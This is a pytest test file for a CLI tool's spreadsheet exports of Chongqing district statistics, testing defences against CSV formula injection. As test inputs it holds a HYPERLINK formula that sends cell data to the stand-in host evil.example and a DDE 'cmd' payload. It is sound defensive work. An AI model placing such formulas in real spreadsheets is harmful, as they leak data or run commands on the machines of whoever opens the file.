"""Exports for spreadsheets: neutralised formulas (OWASP CSV injection), a BOM for Excel, XLSX."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from metrocircle import exports
from metrocircle.cli import app

runner = CliRunner()
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def run(*args: str) -> tuple[int, str, str]:
    res = runner.invoke(app, list(args))
    return res.exit_code, res.stdout, res.stderr


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.5", "-12.5"),
        ("-3e2", "-3e2"),
        ("+7", "+7"),
        (-12.5, -12.5),
        (-3, -3),
        (None, None),
        ("渝中区统计公报", "渝中区统计公报"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise(value: object, expected: object) -> None:
    assert exports.neutralise(value) == expected


def _store_with_evil_source(tmp_path: Path) -> str:
    db = f"sqlite:///{tmp_path / 's.sqlite'}"
    f = tmp_path / "obs.csv"
    f.write_text(
        "indicator,scope,period,value,unit,source\n"
        f'gdp,500103,2024,-1.5,100m_yuan,"{EVIL.replace(chr(34), chr(34) * 2)}"\n'
        "gdp,500104,2024,70.25,100m_yuan,-区统计公报\n",
        encoding="utf-8",
    )
    code, _, err = run("import", "observations", str(f), "--db", db, "--submitted-by", "渝中区")
    assert code == 0, err
    return db


def test_csv_export_for_excel_has_bom_and_no_formula(tmp_path: Path) -> None:
    db = _store_with_evil_source(tmp_path)
    out = tmp_path / "obs.csv"
    code, _, err = run(
        "export",
        "--what",
        "observations",
        "--out",
        str(out),
        "--excel",
        "--headers",
        "zh",
        "--db",
        db,
    )
    assert code == 0, err
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert [r["来源"] for r in rows] == ["'" + EVIL, "'-区统计公报"]
    # a negative number is still a number, not a quoted text
    assert [r["数值"] for r in rows] == ["-1.5", "70.25"]
    assert [r["年份"] for r in rows] == ["2024", "2024"]


def test_plain_csv_export_has_no_bom_but_is_neutralised(tmp_path: Path) -> None:
    db = _store_with_evil_source(tmp_path)
    out = tmp_path / "obs.csv"
    code, _, err = run("export", "--what", "observations", "--out", str(out), "--db", db)
    assert code == 0, err
    raw = out.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"))))
    assert rows[0]["source"] == "'" + EVIL


def test_xlsx_round_trip(tmp_path: Path) -> None:
    db = _store_with_evil_source(tmp_path)
    out = tmp_path / "obs.xlsx"
    code, _, err = run(
        "export", "--what", "observations", "--out", str(out), "--headers", "zh", "--db", db
    )
    assert code == 0, err
    ws = load_workbook(out).active
    assert ws is not None
    rows = list(ws.iter_rows(values_only=True))
    head = list(rows[0])
    assert "来源" in head and "数值" in head
    body = [dict(zip(head, r, strict=True)) for r in rows[1:]]
    assert [b["来源"] for b in body] == ["'" + EVIL, "'-区统计公报"]
    assert [b["数值"] for b in body] == [-1.5, 70.25]  # numbers, not texts
    assert [b["年份"] for b in body] == [2024, 2024]
    # no cell is a formula
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_units_xlsx_by_suffix_keeps_chinese_and_numbers(tmp_path: Path) -> None:
    out = tmp_path / "units.xlsx"
    code, _, err = run("export", "--out", str(out), "--headers", "en")
    assert code == 0, err
    ws = load_workbook(out).active
    assert ws is not None
    rows = list(ws.iter_rows(values_only=True))
    head = list(rows[0])
    assert head[:3] == ["Unit code", "Chinese name", "English name"]
    assert "geometry" not in head
    names = [r[1] for r in rows[1:]]
    assert len(names) >= 27 and "渝中区" in names
    pop = head.index("Resident population (2020, persons)")
    pops = [r[pop] for r in rows[1:] if r[pop] is not None]
    assert len(pops) >= 27 and all(isinstance(p, int) for p in pops)


def test_audit_csv_export_is_neutralised_with_bom(tmp_path: Path) -> None:
    db = _store_with_evil_source(tmp_path)
    out = tmp_path / "audit.csv"
    code, _, err = run("audit", "export", "--out", str(out), "--format", "csv", "--db", db)
    assert code == 0, err
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows
    # the submitted evil source appears in the audit payload, but never at a cell's start
    for r in rows:
        for v in r.values():
            assert not (v and v[0] in "=+@") or v.startswith("'"), v
